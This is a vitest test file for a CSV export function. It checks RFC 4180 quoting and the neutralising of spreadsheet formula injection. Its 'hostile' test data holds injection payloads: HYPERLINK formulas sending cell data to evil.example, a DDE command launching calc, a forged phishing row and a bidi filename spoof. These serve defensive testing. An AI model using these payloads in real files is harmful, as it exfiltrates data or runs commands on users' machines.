import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv-export';
import { parse } from 'csv-parse/sync';

/** RFC 4180, read with csv-parse: quoted cells, doubled quotes, CRLF rows, line breaks inside quotes. */
function parseCsv(text: string): string[][] {
  return parse(text, { record_delimiter: '\r\n', relax_column_count: false }) as string[][];
}

/**
 * The export as a spreadsheet set to another separator reads it: split at every `;` (or tab), quotes
 * honoured only where a cell starts with one (or, `naive`, not at all), rows of any length.
 */
function readWithSeparator(text: string, delimiter: string, naive = false): string[][] {
  return parse(text, { record_delimiter: '\r\n', delimiter, relax_quotes: true, relax_column_count: true, ...(naive ? { quote: false } : {}) }) as string[][];
}

/** What a spreadsheet would run: = + - @ first, possibly after blanks or a stray quote it skips. */
const formulaStart = /^[\s"]*[=+\-@]/;

const hostile = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  'Smith;=HYPERLINK("http://evil.example")',
  'Jane,+1+1',
  'Acme\t-2+3',
  'x; @SUM(A1:A9)',
  'a;"=cmd|\' /C calc\'!A0"',
  '  =1',
  'Doe\nTemporary password sent to: mallory@evil.example',
  'Ann\u202Egnp.exe',
];

describe('CSV export', () => {
  it('quotes per RFC 4180', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(null)).toBe('');
  });

  it('neutralises a formula at the start of a cell and after every , ; or tab inside it', () => {
    expect(csvCell('=SUM(A1)')).toBe("'=SUM(A1)");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('Smith;=HYPERLINK("x")')).toBe(`"Smith;'=HYPERLINK(""x"")"`);
    expect(csvCell('a, -1')).toBe(`"a,' -1"`);
    // Ordinary text keeps its hyphens and signs.
    expect(csvCell('Anne-Marie O-Neill +44')).toBe('Anne-Marie O-Neill +44');
    expect(csvCell('2026-11-27T13:05:00.000Z')).toBe('2026-11-27T13:05:00.000Z');
  });

  it('spells out line breaks, controls and bidi characters instead of writing them', () => {
    expect(csvCell('Doe\nTemporary password sent to: x')).toBe('Doe⟨U+000A⟩Temporary password sent to: x');
    expect(csvCell('Ann\u202Egnp.exe')).toBe('Ann⟨U+202E⟩gnp.exe');
    expect(csvCell('a\tb\r\u2028c\u0085')).toBe('a⟨U+0009⟩b⟨U+000D⟩⟨U+2028⟩c⟨U+0085⟩');
  });

  it('opened with "," or ";" as separator, no cell starts with a formula character', () => {
    const csv = toCsv(['User', 'Customer'], hostile.map((h, i) => [h, hostile[hostile.length - 1 - i]!]));
    const comma = parseCsv(csv);
    expect(comma).toHaveLength(hostile.length + 1);
    const readings = { ',': comma, ';': readWithSeparator(csv, ';'), 'naive ;': readWithSeparator(csv, ';', true), 'naive tab': readWithSeparator(csv, '\t', true) };
    for (const [how, rows] of Object.entries(readings)) {
      const cells = rows.flat();
      expect(cells.length).toBeGreaterThan(hostile.length);
      for (const cell of cells) expect(cell, `read with ${how}`).not.toMatch(formulaStart);
    }
    // The ";" reading really splits inside cells: the attack would have worked without the apostrophes.
    expect(readings[';'].flat().filter((c) => c.startsWith("'=HYPERLINK(")).length).toBeGreaterThan(0);
    // One record per reset with the right separator: a line break in a name forged no row.
    expect(comma.map((r) => r.length)).toEqual(Array(hostile.length + 1).fill(2));
  });

  it('for any text: reads back with "," cell for cell (apart from added apostrophes), and no separator finds a formula', () => {
    const text = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', ',', ';', '\t', '\r', '\n', '"', ' ', "'", 'a', 'Z', '1', '\u202E', '\u2028') });
    fc.assert(
      fc.property(fc.array(fc.tuple(text, text), { maxLength: 5 }), (rows) => {
        const csv = toCsv(['a', 'b'], rows);
        const back = parseCsv(csv).slice(1);
        const plain = (s: string) => s.replace(/'/g, '');
        const visible = (s: string) => plain(s).replace(/\t/g, '⟨U+0009⟩').replace(/\r/g, '⟨U+000D⟩').replace(/\n/g, '⟨U+000A⟩').replace(/\u202E/g, '⟨U+202E⟩').replace(/\u2028/g, '⟨U+2028⟩');
        expect(back.map((r) => r.map(plain))).toEqual(rows.map((r) => r.map(visible)));
        // Quote-aware ";" reading is in the test above; a cell here may open a quote it never closes.
        for (const cells of [back.flat(), readWithSeparator(csv, ';', true).flat(), readWithSeparator(csv, '\t', true).flat()]) {
          for (const cell of cells) expect(cell).not.toMatch(formulaStart);
        }
      }),
    );
  });
});
